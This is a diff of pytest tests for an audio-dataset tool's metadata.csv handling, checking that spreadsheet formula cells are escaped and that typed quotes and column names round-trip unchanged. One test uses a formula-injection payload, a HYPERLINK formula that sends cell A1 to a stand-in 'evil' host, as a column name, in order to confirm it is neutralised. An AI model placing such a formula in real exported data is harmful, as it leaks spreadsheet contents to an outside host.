@@ -67,3 +67,20 @@ def test_a_hand_made_metadata_csv_cannot_bring_in_a_formula_label(tmp_path, labe
     (store.root / "metadata.csv").write_text(f"file_name,label\nclips/x/a.wav,{label}\n")
     with pytest.raises(DatasetError, match="cannot start with = \\+ - @"):
         assert DatasetStore.open(store.root).clips == []  # never reached: opening refuses the row
+
+
+@pytest.mark.parametrize("text", ["'twas brillig", "'", "it's"])
+def test_a_quote_the_person_typed_is_kept(text):
+    """A metadata.csv made by hand: only the quote `safe_cell` adds (before a formula start or a quote) comes off."""
+    assert plain_cell(text) == text
+
+
+def test_column_names_are_safe_on_disk_and_read_back_unchanged(tone_dataset):
+    from intentdesk.core.data.metadata_csv import Clip
+
+    column = '=HYPERLINK("http://evil/?"&A1;"click")'
+    tone_dataset.change_rows(lambda rows: [Clip(c.file_name, c.label, {**c.extra, column: "x"}) for c in rows])
+    header = (tone_dataset.root / "metadata.csv").read_text(encoding="utf-8").splitlines()[0]
+    assert not any(looks_like_formula(cell) for cell in next(csv.reader([header])))
+    reopened = type(tone_dataset).open(tone_dataset.root).clips
+    assert all(clip.extra[column] == "x" for clip in reopened)
